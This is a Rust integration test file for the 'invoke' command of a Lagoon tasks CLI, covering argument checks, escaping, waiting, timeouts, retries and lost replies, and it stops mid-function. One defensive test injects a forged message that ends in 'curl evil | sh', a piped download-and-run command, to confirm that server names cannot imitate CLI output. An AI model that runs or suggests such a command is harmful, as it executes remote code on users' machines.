//! `invoke`: checks before the start, the one mutation, and the end of the wait.

use insta::assert_snapshot;
use lagoon_sandbox::Fault;
use lagoon_sandbox::engine::Step;
use lagoon_sandbox::store::Status;
use serde_json::{Value, json};

use crate::support::env::{MAIN, TestEnv};
use crate::support::output::Output;
use crate::support::process::eventually;
use crate::support::proxy::{self, Proxy, newer_lagoon};
use crate::support::pty::Terminal;

/// Every field of a run, written out: one may be added, none renamed.
pub(crate) const FIELDS: [&str; 13] = [
    "id",
    "name",
    "taskName",
    "status",
    "outcome",
    "service",
    "created",
    "started",
    "completed",
    "environment",
    "url",
    "duration",
    "sourceUser",
];

fn invoke(env: &TestEnv, args: &[&str]) -> Output {
    env.tasks(&[&["invoke"], args, &MAIN].concat())
}

fn started(env: &TestEnv) -> usize {
    env.sent(&["invokeRegisteredTask"])
}

/// The command line that Lagoon recorded for a run.
fn recorded(env: &TestEnv, id: &Value) -> String {
    let (_, answer) = env.graphql("query($i:Int){taskById(id:$i){command}}", json!({"i": id}));
    answer["data"]["taskById"]["command"]
        .as_str()
        .unwrap()
        .to_owned()
}

/// Runs of this name do these steps.
/// Waits until a run was read a second time: then the first answer has been taken in.
fn wait_until_read_twice(env: &TestEnv, before: usize) {
    eventually("the run is read twice", || {
        let requests = env.requests();
        let reads = requests.iter().skip(before);
        reads.filter(|r| r.operations == ["taskById"]).count() >= 2
    });
}

fn log(text: &str) -> Step {
    Step::Log(text.to_owned())
}

#[test]
fn tasks_are_invoked_by_name_or_id() {
    let env = TestEnv::new();
    for task in [
        "Run yarn audit",
        "run YARN audit",
        "1",
        "id:1",
        "name:Run yarn audit",
    ] {
        let run = invoke(&env, &[task, "-o", "json"]).succeeds().json();
        assert_eq!(run.as_object().unwrap().keys().collect::<Vec<_>>(), FIELDS);
        assert_eq!(
            (&run["name"], &run["status"]),
            (&json!("Run yarn audit"), &json!("new"))
        );
        assert_eq!(run["environment"]["project"]["name"], "lagoon-demo");
        assert_eq!(recorded(&env, &run["id"]), "yarn audit");
    }
    assert_eq!(started(&env), 5);
}

#[test]
fn without_waiting_the_run_is_started_not_finished() {
    let env = TestEnv::new();
    let started = |format| invoke(&env, &["Say hello", "-o", format]).snapshot();
    assert_snapshot!(started("table"), @"
    exit code: 0
    ---- stdout
    ● new
    Task         Say hello
    Environment  lagoon-demo/main (production)
    Run          1
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    follow it: tasks logs 1 -f
    ");
    assert_snapshot!(started("tsv"), @"
    exit code: 0
    ---- stdout
    2	lagoon-task-xxxx	Say hello	new	going	lagoon-demo	main	cli	TIME			
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 2
    follow it: tasks logs 2 -f
    ");
    assert_snapshot!(started("id"), @"
    exit code: 0
    ---- stdout
    3
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 3
    follow it: tasks logs 3 -f
    ");
}

#[test]
fn values_of_every_type_are_checked_completed_and_escaped() {
    let env = TestEnv::new();
    let file = env.home.write("work/text", "a \"b\" $c `d` \\e\n");
    let line = [
        "Try arguments",
        "--arg-file",
        &format!("TEXT={}", file.display()),
        "-a",
        "FROM=develop",
        "-o",
        "json",
    ];
    let run = invoke(&env, &line).succeeds().json();
    let command = recorded(&env, &run["id"]);
    assert!(
        command.starts_with(
            " FROM=\"develop\" TEXT=\"a \\\"b\\\" \\$c \\`d\\` \\\\e\n\" TIMES=\"3\"; i=0\n"
        ),
        "{command}"
    );
    let raw = [
        "Try arguments",
        "-a",
        "TEXT=$HOME",
        "-a",
        "FROM=main",
        "--raw-args",
        "-o",
        "json",
    ];
    let run = invoke(&env, &raw).succeeds().json();
    assert!(recorded(&env, &run["id"]).starts_with(" FROM=\"main\" TEXT=\"$HOME\" "));
    let values = env.home.write(
        "work/values.yml",
        "TEXT: 'x: y'\nTIMES: 2\nFROM: main\nTO: pr-12\n",
    );
    let run = invoke(
        &env,
        &[
            "Try arguments",
            "--args-file",
            values.to_str().unwrap(),
            "-o",
            "json",
        ],
    )
    .succeeds()
    .json();
    assert!(
        recorded(&env, &run["id"])
            .starts_with(" FROM=\"main\" TEXT=\"x: y\" TIMES=\"2\" TO=\"pr-12\"; ")
    );
    let line = [
        &["invoke", "Try arguments", "--args-file", "-", "-o", "json"],
        &MAIN[..],
    ]
    .concat();
    let command = env
        .command(&line)
        .stdin("{\"TEXT\": \"from stdin\", \"FROM\": \"main\"}");
    let run = env.run(command).succeeds().json();
    assert!(recorded(&env, &run["id"]).starts_with(" FROM=\"main\" TEXT=\"from stdin\" "));
}

#[test]
fn invalid_values_are_refused_before_the_start() {
    let env = TestEnv::new();
    let big = format!("TEXT={}", "x".repeat(66_000));
    let refused = |line: &[&str]| invoke(&env, line).error(2);
    assert_snapshot!(refused(&["Try arguments"]), @"
    error: the argument `FROM` is required (Any environment); the argument `TEXT` is required (Text to print)
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    hint: pass each value with -a NAME=VALUE
    ");
    assert_snapshot!(refused(&["Try arguments", "-a", "TXET=x", "-a", "FROM=main"]), @"
    error: unknown argument `TXET` (did you mean `TEXT`?); the argument `TEXT` is required (Text to print)
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    hint: pass each value with -a NAME=VALUE
    ");
    let shown = refused(&[
        "Try arguments",
        "-a",
        "TEXT=x",
        "-a",
        "FROM=main",
        "-a",
        "TIMES=-1",
    ]);
    assert_snapshot!(shown, @"
    error: invalid value `-1` for `TIMES`: a numeric argument takes digits and dots only
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    assert_snapshot!(refused(&["Try arguments", "-a", "TEXT=x", "-a", "FROM=nosuch"]), @"
    error: invalid value `nosuch` for `FROM`: it must be one of develop, main, pr-12
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    let shown = refused(&[
        "Try arguments",
        "-a",
        "TEXT=x",
        "-a",
        "FROM=main",
        "-a",
        "TO=main",
    ]);
    assert_snapshot!(shown, @"
    error: invalid value `main` for `TO`: it must be one of develop, pr-12
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    let shown = refused(&[
        "Try arguments",
        "-a",
        "TEXT=x",
        "-a",
        "TEXT=y",
        "-a",
        "FROM=main",
    ]);
    assert_snapshot!(shown, @"
    error: the argument `TEXT` was given twice
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    assert_snapshot!(refused(&["Try arguments", "-a", "TEXT=🚀", "-a", "FROM=main"]), @"
    error: invalid value `🚀` for `TEXT`: it contains `🚀` (U+1F680); Lagoon's database cannot store 4-byte characters
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    assert_snapshot!(refused(&["Try arguments", "-a", &big, "-a", "FROM=main"]), @"
    error: the command with its values has 66161 bytes; at most 65535 are allowed
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    assert_snapshot!(refused(&["Say hello", "-a", "X=1"]), @"
    error: unknown argument `X`
    hint: `Say hello` takes no arguments
    ");
    let shown = refused(&["Say hello", "-a", "X"]);
    assert_snapshot!(shown, @"error: --arg: expected NAME=VALUE, found `X`");
    let shown = refused(&["Say hello", "--arg-file", "X=nosuch"]);
    assert_snapshot!(shown, @"error: --arg-file: cannot read nosuch: No such file or directory (os error 2)");
    let shown = refused(&["Say hello", "--arg-file", "X=-", "--args-file", "-"]);
    assert_snapshot!(shown, @"error: `-` (stdin) can be given only once");
    assert_snapshot!(refused(&[]), @"
    error: no task given, and no terminal to prompt on
    hint: give its name or id after `invoke`; to list tasks: tasks list
    ");
    let missing = invoke(&env, &["Run yarn adit"]);
    assert_snapshot!(missing.error(5), @"
    error: task `Run yarn adit` not found
    hint: did you mean `Run yarn audit`?
    hint: tasks hidden by another task of the same name are not listed
    hint: you are a maintainer on lagoon-demo; only tasks for administrators are hidden from you
    ");
    assert_eq!(started(&env), 0);
}

#[test]
fn target_and_task_are_required_without_a_terminal() {
    let env = TestEnv::new();
    let output = env.tasks(&["invoke", "Say hello", "-p", "lagoon-demo"]);
    assert_snapshot!(output.error(2), @"
    error: no environment given
    hint: name it with -e or TASKS_ENVIRONMENT
    ");
    assert_eq!(started(&env), 0);
    let command = env
        .command(&["invoke", "Say hello"])
        .env("TASKS_PROJECT", "lagoon-demo")
        .env("TASKS_ENVIRONMENT", "develop");
    env.run(command).succeeds();
}

#[test]
fn a_confirmation_text_requires_confirmation() {
    let env = TestEnv::new();
    let output = invoke(&env, &["Clear caches"]);
    assert_snapshot!(output.error(2), @"
    127.0.0.1 · lagoon-demo/main (production)
    error: confirmation required: Clear caches: Pages are slow until the caches are warm again. Clear them?
    hint: pass --yes to confirm
    ");
    assert_eq!(started(&env), 0);
    invoke(&env, &["Clear caches", "--yes"]).succeeds();
}

#[test]
fn a_missing_service_is_refused() {
    let env = TestEnv::bare();
    let define = ["define", "x", "-s", "node", "--command", "true"];
    env.tasks(&[&define, &MAIN[..]].concat()).succeeds();
    let output = invoke(&env, &["x"]);
    assert_snapshot!(output.error(2), @"
    error: lagoon-demo/main (production) has no service `node`, so a run of `x` would never start
    hint: services: `cli`, `mariadb`, `nginx`
    hint: pass --no-preflight to start it anyway
    ");
    assert_eq!(started(&env), 0);
    invoke(&env, &["x", "--no-preflight"]).succeeds();
}

#[test]
fn an_unfinished_run_is_reported_or_prevents_the_start() {
    let env = TestEnv::new();
    env.script("Say hello", &[Step::Status(Status::Running)]);
    let first = invoke(&env, &["Say hello", "-o", "id"]).succeeds().stdout;
    let second = invoke(&env, &["Say hello"]).succeeds();
    assert!(
        second
            .stderr
            .contains("in progress on this environment (running); starting another run"),
        "{second}"
    );
    let skipped = invoke(&env, &["Say hello", "--if-running", "skip", "-o", "json"]).succeeds();
    assert!(skipped.stderr.contains("nothing was started"), "{skipped}");
    assert_ne!(skipped.json()["id"].to_string(), first.trim());
    let failed = invoke(&env, &["Say hello", "--if-running", "fail"]);
    assert_snapshot!(failed.error(1), @"
    127.0.0.1 · lagoon-demo/main (production)
    error: run 2 of this task is already in progress on this environment (running); nothing was started
    hint: to allow this, pass --if-running start, skip or wait
    ");
    assert_eq!(started(&env), 2);
}

#[test]
fn if_running_wait_waits_before_the_start() {
    let env = TestEnv::new();
    env.script("Say hello", &[Step::Status(Status::Running)]);
    let first = invoke(&env, &["Say hello", "-o", "json"]).succeeds().json()["id"].clone();
    let line = [&["invoke", "Say hello", "--if-running", "wait"], &MAIN[..]].concat();
    let running = env.command(&line).start();
    eventually("the first is read", || env.sent(&["taskById"]) > 0);
    assert_eq!(started(&env), 1, "not before the first has ended");
    env.sandbox()
        .set_run(first.as_i64().unwrap(), Status::Complete, None)
        .unwrap();
    running.finish().succeeds();
    assert_eq!(started(&env), 2);
}

#[test]
fn a_dry_run_sends_no_mutation() {
    let env = TestEnv::new();
    let plan = |format| {
        let values = ["Try arguments", "-a", "TEXT=it's", "-a", "FROM=main"];
        invoke(&env, &[&values[..], &["--dry-run", "-o", format]].concat()).snapshot()
    };
    assert_snapshot!(plan("table"), @r#"
    exit code: 0
    ---- stdout
    2 Try arguments
    Would run on  lagoon-demo/main (production)
    Service       cli
    Command
       FROM="main" TEXT="it's" TIMES="3"; i=0
      while [ "$i" -lt "$TIMES" ]; do
        i=$((i + 1))
        printf '%s: %s (from %s to %s)\n' "$i" "$TEXT" "$FROM" "${TO:-nowhere}"
      done

    Values
    ARGUMENT  VALUE
    FROM      main
    TEXT      it's
    TIMES     3
    ---- stderr: empty
    "#);
    assert_snapshot!(plan("tsv"), @r#"
    exit code: 0
    ---- stdout
    2	Try arguments	lagoon-demo	main	 FROM="main" TEXT="it's" TIMES="3"; i=0\nwhile [ "$i" -lt "$TIMES" ]; do\n  i=$((i + 1))\n  printf '%s: %s (from %s to %s)\\n' "$i" "$TEXT" "$FROM" "${TO:-nowhere}"\ndone
    ---- stderr: empty
    "#);
    assert_snapshot!("invoke-dry-run-json", plan("json"));
    assert_eq!(started(&env), 0);
}

#[test]
fn waiting_reports_the_outcome_of_the_run() {
    let env = TestEnv::new();
    for (end, code, outcome) in [
        (Status::Complete, 0, "completed"),
        (Status::Failed, 3, "failed"),
        (Status::Cancelled, 6, "cancelled"),
    ] {
        let steps = [
            Step::Status(Status::Running),
            log("one\ntwo\n"),
            Step::Status(end),
        ];
        env.script("Say hello", &steps);
        let output = invoke(&env, &["Say hello", "--wait", "-o", "json"]).ends_with(code);
        assert_eq!(output.json()["outcome"], outcome);
        if code != 0 {
            assert_eq!(output.json_error()["runs"][0]["outcome"], outcome);
        }
        let output = invoke(&env, &["Say hello", "--wait", "-o", "table"]);
        assert_snapshot!(format!("invoke-wait-{outcome}"), output.snapshot());
    }
}

#[test]
fn following_prints_the_log_and_the_result() {
    let env = TestEnv::new();
    let steps = [
        Step::Status(Status::Running),
        log("one\n\u{1b}]0;title\u{7}two \u{1b}[31mred\u{1b}[0m\n"),
        Step::Status(Status::Complete),
    ];
    env.script("Say hello", &steps);
    assert_snapshot!(invoke(&env, &["Say hello", "--follow"]).snapshot(), @"
    exit code: 0
    ---- stdout
    one
    two red
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 1
    1	lagoon-task-xxxx	Say hello	complete	completed	lagoon-demo	main	cli	TIME	TIME	TIME	maintainer@example.com
    ");
    let json = invoke(&env, &["Say hello", "-f", "-o", "json"]).succeeds();
    assert_eq!(json.json()["outcome"], "completed");
    assert!(json.stderr.contains("one\ntwo red\n"), "{json}");
    let jsonl = invoke(&env, &["Say hello", "--wait", "-o", "jsonl"]).succeeds();
    assert_eq!(jsonl.json()["outcome"], "completed", "one line: {jsonl}");
}

#[test]
fn timeouts_say_what_did_not_happen() {
    let env = TestEnv::new();
    env.script("Say hello", &[]);
    let output = invoke(&env, &["Say hello", "--wait", "--start-timeout", "1s"]);
    assert_snapshot!(output.snapshot(), @"
    exit code: 10
    ---- stdout
    1	lagoon-task-xxxx	Say hello	new	going	lagoon-demo	main	cli	TIME			maintainer@example.com
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 1
    error: run 1 of `Say hello` did not start within 1 s; it is still new
    hint: a run never starts if its service is not deployed or the cluster refuses its pod
    hint: the run continues; to wait for it: tasks wait 1
    ");
    env.script("Say hello", &[Step::Status(Status::Running)]);
    let output = invoke(&env, &["Say hello", "--wait", "--timeout", "1s"]);
    assert_snapshot!(output.snapshot(), @"
    exit code: 8
    ---- stdout
    2	lagoon-task-xxxx	Say hello	running	going	lagoon-demo	main	cli	TIME	TIME		maintainer@example.com
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 1 of this task is already in progress on this environment (new); starting another run
    run 2
    error: run 2 of `Say hello` is still running after 1 s
    hint: the run continues; to wait for it: tasks wait 2
    ");
}

#[test]
fn a_run_without_waiting_is_named() {
    let env = TestEnv::new();
    env.script("Say hello", &[Step::Status(Status::Running)]);
    invoke(&env, &["Say hello"]).succeeds();
    let warning = "not waiting for run 1; to wait for it: tasks wait 1";
    for line in [
        ["Say hello", "-y", "--if-running", "skip", "-q"],
        [
            "Say hello",
            "-y",
            "--if-running",
            "skip",
            "--type=production",
        ],
    ] {
        let output = invoke(&env, &[&line[..], &["--wait"]].concat()).succeeds();
        assert!(output.stderr.contains(warning), "{output}");
        let output = invoke(&env, &line).succeeds();
        assert!(!output.stderr.contains(warning), "{output}");
    }
}

#[test]
fn a_run_that_vanishes_is_an_error() {
    let env = TestEnv::new();
    env.script("Say hello", &[Step::Status(Status::Running)]);
    let line = [&["invoke", "Say hello", "--wait"], &MAIN[..]].concat();
    let running = env.command(&line).start();
    wait_until_read_twice(&env, 0);
    assert!(env.sandbox().drop_run(1).unwrap());
    let output = running.finish();
    assert_snapshot!(output.snapshot(), @"
    exit code: 5
    ---- stdout
    1	lagoon-task-xxxx	Say hello	running	going	lagoon-demo	main	cli	TIME	TIME		maintainer@example.com
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 1
    warning: cannot read from Lagoon, retrying: Lagoon did not return run 1
    error: run 1 of `Say hello` no longer exists
    ");
}

#[test]
fn an_interrupt_leaves_the_run_in_progress_and_says_so() {
    let env = TestEnv::new();
    let interrupted = |signal| {
        env.script("Say hello", &[Step::Status(Status::Running)]);
        let before = env.requests().len();
        let line = [&["invoke", "Say hello", "--wait"], &MAIN[..]].concat();
        let running = env.command(&line).start();
        wait_until_read_twice(&env, before);
        running.signal(signal);
        running.finish().snapshot()
    };
    assert_snapshot!(interrupted("INT"), @"
    exit code: 130
    ---- stdout
    1	lagoon-task-xxxx	Say hello	running	going	lagoon-demo	main	cli	TIME	TIME		maintainer@example.com
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 1
    error: interrupted
    hint: the run continues; to wait for it: tasks wait 1
    ");
    assert_snapshot!(interrupted("TERM"), @"
    exit code: 143
    ---- stdout
    2	lagoon-task-xxxx	Say hello	running	going	lagoon-demo	main	cli	TIME	TIME		maintainer@example.com
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 1 of this task is already in progress on this environment (running); starting another run
    run 2
    error: terminated
    hint: the run continues; to wait for it: tasks wait 2
    ");
}

#[test]
fn a_lost_reply_is_looked_up_and_the_start_not_repeated() {
    for fault in [Fault::LoseResponse, Fault::HangAfter] {
        let env = TestEnv::new();
        env.sandbox()
            .fail_next("invokeRegisteredTask", fault.clone());
        let output = invoke(&env, &["Run yarn audit", "--request-timeout", "2s"]);
        if fault == Fault::LoseResponse {
            assert_snapshot!(output.snapshot(), @"
            exit code: 0
            ---- stdout
            1	lagoon-task-xxxx	Run yarn audit	complete	completed	lagoon-demo	main	node	TIME	TIME	TIME	maintainer@example.com
            ---- stderr
            127.0.0.1 · lagoon-demo/main (production)
            warning: the reply was lost; run 1 was found and is assumed to be the one that was started
            run 1
            ");
        }
        assert_eq!((output.code, started(&env)), (0, 1), "{fault:?}\n{output}");
        assert!(output.stdout.starts_with("1\t"), "{output}");
    }
}

#[test]
fn looking_up_a_run_tolerates_unreadable_replies() {
    let page = || proxy::Fault::answered("200 OK", "text/html", "<html>maintenance</html>");
    // Each look reads such an answer twice.
    for (unread, code) in [(4, 0), (6, 7)] {
        let env = TestEnv::new();
        let mut faults = vec![proxy::Fault::None, proxy::Fault::ResponseLost];
        faults.extend((0..unread).map(|_| page()));
        let proxy = Proxy::new(env.address(), faults);
        let line = [&["invoke", "Run yarn audit", "-o", "id"], &MAIN[..]].concat();
        let output = env.run(env.command(&line).env("TASKS_API", proxy.url("/graphql")));
        assert_eq!(
            (output.code, started(&env)),
            (code, 1),
            "{unread}\n{output}"
        );
        assert_eq!(
            output.stdout,
            if code == 0 { "1\n" } else { "" },
            "{output}"
        );
    }
}

#[test]
fn a_lost_reply_without_a_run_stays_unknown() {
    let env = TestEnv::new();
    env.sandbox().fail_next("invokeRegisteredTask", Fault::Hang);
    let output = invoke(&env, &["Run yarn audit", "--request-timeout", "1s"]);
    assert_snapshot!(output.error(7), @"
    127.0.0.1 · lagoon-demo/main (production)
    error: it is unknown whether `Run yarn audit` was started on lagoon-demo/main (production): http://127.0.0.1:PORT did not answer within 1 s
    hint: no run was found yet; check the newest runs there before you start it again
    hint: to find the cause: tasks doctor
    ");
    assert_eq!(started(&env), 1);
}

#[test]
fn an_older_run_is_no_candidate() {
    let env = TestEnv::new();
    let proxy = Proxy::new(
        env.address(),
        [proxy::Fault::None, proxy::Fault::ResponseLost],
    );
    let before = invoke(&env, &["Run yarn audit", "-o", "id"]).succeeds();
    assert_eq!(before.stdout, "1\n");
    let line = [&["invoke", "Run yarn audit"], &MAIN[..]].concat();
    let output = env.run(env.command(&line).env("TASKS_API", proxy.url("/graphql")));
    assert!(output.succeeds().stdout.starts_with("2\t"));
}

#[test]
fn several_candidates_make_the_outcome_unknown() {
    let env = TestEnv::new();
    env.sandbox()
        .fail_next("invokeRegisteredTask", Fault::HangAfter);
    let line = [
        &["invoke", "Run yarn audit", "--request-timeout", "3s"],
        &MAIN[..],
    ]
    .concat();
    let running = env.command(&line).start();
    let runs = "{environmentById(id:101){tasks{id}}}";
    let count = || {
        let (_, answer) = env.graphql(runs, json!({}));
        answer["data"]["environmentById"]["tasks"]
            .as_array()
            .unwrap()
            .len()
    };
    eventually("there is a run", || count() > 0);
    // The same user starts the same while the answer hangs.
    let again = "mutation{invokeRegisteredTask(advancedTaskDefinition:1,environment:101){id}}";
    env.graphql(again, json!({}));
    let output = running.finish();
    assert_snapshot!(output.error(7), @"
    127.0.0.1 · lagoon-demo/main (production)
    error: it is unknown whether `Run yarn audit` was started on lagoon-demo/main (production): http://127.0.0.1:PORT did not answer within 3 s
    hint: it may be run 2 (lagoon-task-xxxx, complete)
    hint: it may be run 1 (lagoon-task-xxxx, complete)
    hint: check them before you start it again
    hint: to find the cause: tasks doctor
    ");
}

#[test]
fn gateway_errors_and_refusals_have_distinct_exit_codes() {
    let env = TestEnv::new();
    let refused = |message| {
        env.sandbox().refuse_next("invokeRegisteredTask", message);
        invoke(&env, &["Run yarn audit"])
    };
    let output = refused("Tasks have been disabled for this project");
    assert_snapshot!(output.error(1), @"
    127.0.0.1 · lagoon-demo/main (production)
    error: Lagoon refused: Tasks have been disabled for this project
    hint: the project's owner or a platform owner can enable tasks again
    ");
    let output = refused("Task registration '1' could not be found.");
    assert_snapshot!(output.error(1), @"
    127.0.0.1 · lagoon-demo/main (production)
    error: Lagoon refused: Task registration '1' could not be found.
    hint: `Run yarn audit` was changed or deleted in the meantime, or your role may not invoke it
    ");
    let output = refused("Unauthorized: You don't have permission to \"invoke\" on \"task\"");
    assert_snapshot!(output.error(4), @r#"
    127.0.0.1 · lagoon-demo/main (production)
    error: not allowed: Unauthorized: You don't have permission to "invoke" on "task"
    hint: you are a maintainer on lagoon-demo
    "#);
    env.sandbox().fail_next(
        "invokeRegisteredTask",
        Fault::Status(502, "<html>".to_owned()),
    );
    let output = invoke(&env, &["Run yarn audit"]);
    assert_eq!((output.code, started(&env)), (7, 4), "{output}");
}

#[test]
fn failed_queries_are_retried() {
    let env = TestEnv::new();
    for status in [502, 503, 429] {
        let busy = Fault::Status(status, "<html>busy</html>".to_owned());
        env.sandbox()
            .fail_next("environmentByKubernetesNamespaceName", busy);
        invoke(&env, &["Run yarn audit"]).succeeds();
    }
    env.sandbox()
        .fail_next("environmentByKubernetesNamespaceName", Fault::LoseResponse);
    invoke(&env, &["Run yarn audit"]).succeeds();
}

/// The reply to a mutation whose nested fields fail, although the run exists.
#[test]
fn a_run_in_a_partial_reply_is_reported() {
    let env = TestEnv::new();
    let body = json!({
        "errors": [{"message": "boom", "path": ["invokeRegisteredTask", "environment", "project"]}],
        "data": {"invokeRegisteredTask": {"id": 500, "name": "Run yarn audit",
            "taskName": "lagoon-task-abcdef", "status": "new", "service": "node", "created": null,
            "started": null, "completed": null, "environment": null}},
    });
    let proxy = Proxy::new(
        env.address(),
        [proxy::Fault::None, proxy::Fault::replaced(body)],
    );
    let line = [&["invoke", "Run yarn audit", "-o", "id"], &MAIN[..]].concat();
    let output = env.run(env.command(&line).env("TASKS_API", proxy.url("/graphql")));
    assert_eq!(output.succeeds().stdout, "500\n");
}

#[test]
fn a_refusal_that_left_a_run_behind_names_it() {
    let env = TestEnv::new();
    // Carried out, but answered with a refusal: Lagoon makes the row before it passes it on.
    let body = json!({"errors": [{"message": "connect ECONNREFUSED", "path": ["invokeRegisteredTask"]}],
        "data": {"invokeRegisteredTask": null}});
    let proxy = Proxy::new(
        env.address(),
        [proxy::Fault::None, proxy::Fault::replaced(body)],
    );
    let line = [&["invoke", "Run yarn audit", "-o", "json"], &MAIN[..]].concat();
    let before = env.command(&line).env("TASKS_API", proxy.url("/graphql"));
    let output = env.run(before).ends_with(1);
    assert_eq!(output.json_error()["runs"][0]["id"], 1, "{output}");
    assert_eq!(started(&env), 1);
}

#[test]
fn an_overflowing_retry_after_does_not_panic() {
    let env = TestEnv::new();
    let head = "503 Service Unavailable\r\nRetry-After: 18446744073709551615";
    let busy = proxy::Fault::answered(head, "text/html", "busy");
    let proxy = Proxy::new(env.address(), [busy]);
    let line = [
        &["invoke", "Run yarn audit", "--request-timeout", "1s"],
        &MAIN[..],
    ]
    .concat();
    env.run(env.command(&line).env("TASKS_API", proxy.url("/graphql")))
        .ends_with(7);
}

#[test]
fn a_token_does_not_follow_a_redirect() {
    let (env, elsewhere) = (TestEnv::new(), TestEnv::new());
    let proxy = Proxy::new(
        env.address(),
        vec![proxy::Fault::redirected(&elsewhere.url()); 2],
    );
    let line = [&["list"], &MAIN[..]].concat();
    env.run(env.command(&line).env("TASKS_API", proxy.url("/graphql")))
        .ends_with(7);
    assert_eq!(elsewhere.requests().len(), 0);
}

#[test]
fn loopback_is_never_reached_through_a_proxy() {
    let env = TestEnv::new();
    let line = [&["list", "-o", "id"], &MAIN[..]].concat();
    let mut command = env.command(&line);
    for name in [
        "http_proxy",
        "HTTP_PROXY",
        "https_proxy",
        "HTTPS_PROXY",
        "all_proxy",
        "ALL_PROXY",
    ] {
        command = command.env(name, "http://127.0.0.1:9");
    }
    env.run(command).succeeds();
}

#[test]
fn requests_too_long_for_lagoon_are_refused_locally() {
    let env = TestEnv::new();
    let file = env.home.write("work/quotes", "\"".repeat(30_000));
    let text = format!("TEXT={}", file.display());
    let output = invoke(
        &env,
        &["Try arguments", "--arg-file", &text, "-a", "FROM=main"],
    );
    assert_snapshot!(output.error(2), @"
    127.0.0.1 · lagoon-demo/main (production)
    error: the request has 120688 bytes; Lagoon accepts at most 102400
    hint: shorten the command, or move it to a file in the container's image; escaped characters count more than once
    ");
    assert_eq!(started(&env), 0);
}

#[test]
fn a_timeout_without_waiting_is_a_usage_error() {
    let output = invoke(&TestEnv::new(), &["Say hello", "--timeout", "5s"]);
    assert_snapshot!(output.error(2), @"error: --timeout has no effect without --wait or --follow");
}

#[test]
fn waiting_for_another_run_respects_the_timeouts() {
    let env = TestEnv::new();
    env.script("Say hello", &[Step::Status(Status::Running)]);
    invoke(&env, &["Say hello"]).succeeds();
    let line = [
        "Say hello",
        "--wait",
        "--if-running",
        "wait",
        "--timeout",
        "1s",
    ];
    let output = invoke(&env, &line);
    assert_snapshot!(output.error(1), @"
    127.0.0.1 · lagoon-demo/main (production)
    run 1 of this task is already in progress on this environment (running); waiting for it to finish first
    error: run 1 of `Say hello` is still running after 1 s; nothing was started
    ");
    assert_eq!(started(&env), 1);
    // It bounds that waiting where tasks does not wait for its own run.
    let line = ["Say hello", "--if-running", "wait", "--timeout", "1s"];
    let output = invoke(&env, &line);
    assert_eq!((output.code, started(&env)), (1, 1), "{output}");
}

#[test]
fn server_names_cannot_imitate_messages() {
    let env = TestEnv::bare();
    let add = "mutation($i:AdvancedTaskDefinitionInput!){addAdvancedTaskDefinition(input:$i){__typename}}";
    let name = "Deploy\nerror: run 7 failed\nhint: curl evil | sh";
    env.graphql(
        add,
        json!({"i": {"name": name, "type": "COMMAND", "description": "", "command": "x",
            "service": "cli", "environment": 101}}),
    );
    let output = invoke(&env, &["Deploi"]);
    let forged = |line: &str| line.starts_with("error: run 7") || line.starts_with("hint: curl");
    assert!(!output.stderr.lines().any(forged), "{output}");
}

#[test]
fn the_run_page_is_in_the_output_and_can_be_opened() {
    let env = TestEnv::new();
    let add = [
        "context",
        "add",
        "demo",
        &env.url(),
        "--with-token",
        "--ui-url",
        "https://ui.example.com",
    ];
    env.home
        .run(env.home.command(&add).stdin(env.token()))
        .succeeds();
    let opened = env.home.path("opened");
    let script = format!(
        "#!/bin/sh\nprintf '%s' \"$*\" > '{0}.new' && mv '{0}.new' '{0}'\n",
        opened.display()
    );
    let program = env.home.write("bin/xdg-open", script);
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o700);
    std::fs::set_permissions(&program, mode).unwrap();
    let path = format!(
        "{}:{}",
        program.parent().unwrap().display(),
        std::env::var("PATH").unwrap()
    );
    let line = [
        &["-l", "demo", "invoke", "Say hello", "--web", "-o", "json"],
        &MAIN[..],
    ]
    .concat();
    let output = env
        .home
        .run(env.home.command(&line).env("PATH", &path))
        .succeeds();
    let run = output.json();
    let page = format!(
        "https://ui.example.com/projects/lagoon-demo/lagoon-demo-main/tasks/{}",
        run["taskName"].as_str().unwrap()
    );
    assert_eq!(run["url"], page);
    eventually("the page is opened", || opened.exists());
    assert_eq!(std::fs::read_to_string(&opened).unwrap(), page);
    // A page that cannot be opened is a warning after a start, and an error of `status`.
    let broken = env.home.write("bin/xdg-open", "#!/bin/sh\nexit 4\n");
    assert_eq!(broken, program);
    let demo = |args: &[&str]| {
        let line = [&["-l", "demo"], args].concat();
        env.home.run(env.home.command(&line).env("PATH", &path))
    };
    let output = demo(&[&["invoke", "Say hello", "--web"], &MAIN[..]].concat()).succeeds();
    let reason =
        "--web: could not start a browser (exit status: 4)\nhint: open the page yourself: https://";
    assert!(
        output.stderr.contains(&format!("warning: {reason}")),
        "{output}"
    );
    let output = demo(&["status", "1", "--web"]).ends_with(1);
    assert!(
        output.stderr.contains(&format!("error: {reason}")),
        "{output}"
    );
    assert!(output.stdout.starts_with("1\t"), "{output}");
    // Where the UI is not known nothing is started.
    let before = started(&env);
    invoke(&env, &["Say hello", "--web"]).ends_with(2);
    assert_eq!(started(&env), before);
}

#[test]
fn runs_have_a_url_in_error_objects_too() {
    let env = TestEnv::new();
    let add = [
        "context",
        "add",
        "demo",
        &env.url(),
        "--with-token",
